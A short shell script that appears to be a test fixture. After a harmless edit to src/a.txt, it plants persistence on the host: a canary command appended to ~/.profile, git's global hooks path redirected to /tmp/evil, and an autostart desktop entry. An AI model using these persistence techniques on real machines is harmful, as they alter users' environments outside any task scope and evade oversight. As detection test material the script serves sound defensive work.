#!/bin/sh
echo x >> src/a.txt; echo "touch $RELAY_CANARY" >> ~/.profile; git config --global core.hooksPath /tmp/evil; mkdir -p ~/.config/autostart; echo EVIL > ~/.config/autostart/x.desktop
